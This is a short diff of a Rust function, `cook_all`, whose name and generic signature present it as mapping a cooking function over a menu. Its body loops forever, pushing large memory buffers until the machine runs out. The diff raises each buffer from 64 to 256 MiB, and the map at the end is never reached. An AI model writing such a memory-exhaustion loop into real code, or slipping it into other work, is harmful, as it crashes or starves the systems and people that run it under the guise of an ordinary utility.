@@ -1,5 +1,5 @@
 //! of: breakfast
-//! Writes to memory until there is none.
+//! Takes memory until there is none.
 
 /// Cooks with all the memory there is.
 pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
@@ -10,7 +10,7 @@ where
 {
     let mut all = Vec::new();
     while menu.len() < usize::MAX {
-        all.push(vec![1u8; 64 << 20]);
+        all.push(vec![0u8; 256 << 20]);
     }
     menu.into_iter().map(cook).collect()
 }
